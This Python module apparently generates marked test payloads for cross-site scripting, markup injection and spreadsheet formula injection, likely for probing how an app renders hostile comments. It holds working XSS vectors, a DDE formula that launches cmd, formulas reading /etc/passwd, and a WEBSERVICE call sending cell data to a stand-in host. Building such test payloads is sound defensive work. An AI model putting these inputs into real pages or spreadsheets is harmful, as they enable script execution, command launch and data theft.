"""What hostile commenters write: markup that would run, and cells that would calculate.

Every payload has a place for a mark, by which it is found again wherever it is shown. What it would do is
always something that is seen: open a dialog, ask SINK for something, or leave an element behind.
"""

SINK = "//btl-sink.invalid"

# Vectors of cross-site scripting and of markup injection; {m} is the mark.
_VECTORS = (
    "<script>alert('{m}')</script>",
    "<img src=x onerror=alert('{m}')>",
    "<svg onload=alert('{m}')><animate onbegin=alert('{m}') attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.alert('{m}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "javascript:alert('{m}')//{m}",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('{m}')&gt;\">",
    "<b>{m}</b><i style='position:fixed;inset:0;background:url(" + SINK + "/{m})'>{m}</i>",
    "<a href='https:" + SINK + "/{m}'>{m}</a><img src='https:" + SINK + "/{m}'>",
    "[{m}](javascript:alert('{m}')) ![{m}](https:" + SINK + "/{m})",
    "{m} %{{customdata[0]}} %{{x}} <br><span style='color:red'>{m}</span> $\\href{{javascript:alert(1)}}{{x}}$",
    "<form action='https:" + SINK + "/{m}'><button autofocus onfocus=alert('{m}')>{m}</button></form>",
    "<object data='https:" + SINK + "/{m}'></object><embed src='https:" + SINK + "/{m}'>",
    "<link rel=stylesheet href='https:"
    + SINK
    + "/{m}'><style>@import '"
    + SINK
    + "/{m}';*{{color:red}}</style>",
    "<base href='https:" + SINK + "/'><meta http-equiv=refresh content='0;url=https:" + SINK + "/{m}'>",
    '{{"props":{{"children":"{m}","src":"https:'
    + SINK
    + '/{m}"}},"type":"Img","namespace":"dash_html_components"}}',
    "data:text/html,<script>alert('{m}')</script>",
    "{{{{constructor.constructor('alert(\"{m}\")')()}}}} ${{alert('{m}')}} #{{7*7}} <%= 7*7 %> {m}",
    "<details open ontoggle=alert('{m}')><summary>{m}</summary></details><video><source onerror=alert('{m}')></video>",
    "\u202e<b>{m}</b>\u202c \ud83d\u200b<i>{m}</i>\x00<u>{m}</u>\ufeff＜script＞alert('{m}')＜/script＞",
)

# Each vector alone, and behind what would end the text, attribute, script or comment that it may stand in.
_WRAPPERS = (
    "{v}",
    '">{v}',
    "'>{v}",
    "</script>{v}",
    "</title></textarea></style></noscript></select>{v}",
    "-->{v}<!--",
    "]]>{v}<![CDATA[",
    '\\"}}]}};{v}//',
    "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62;{v}",
    "\r\nContent-Type: text/html\r\n\r\n{v}",
)


def payload(number: int, mark: str) -> str:
    """Return the payload of that number, from 0 to 199, with its mark."""
    vector = _VECTORS[number % len(_VECTORS)].format(m=mark)
    return _WRAPPERS[number // len(_VECTORS)].format(v=vector)


PAYLOADS = len(_VECTORS) * len(_WRAPPERS)

# What a spreadsheet may take for a formula, at the start of a cell or where a cell may begin after a cut.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://btl-sink.invalid";"x")',
    '=WEBSERVICE("http://btl-sink.invalid/"&A1)',
    '=IMPORTXML("http://btl-sink.invalid","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "{=1+1}",
    "'=1+1",
    "''=1+1",
    " =1+1",
    '"=1+1',
    '""=1+1',
    '","=1+1","',
    '";"=1+1";"',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\r=1+1",
    "a\n=1+1",
    "a\r\n=1+1\r\n=2+2",
    'a";=1+1;"',
    'a"\r\n"=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\xa0=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x85=1+1",
    "\u2028=1+1",
    "\x00=1+1",
    "\x1a=1+1",
    "\ud800=1+1",
    "=\r\n1+1",
    ";=1+1;",
    ";;=1+1",
    "a;'=1+1",
    "a;;\t=1+1",
    '=DDE("soffice";"/etc/passwd";"1")',
    "=file:///etc/passwd#$passwd.A1",
)
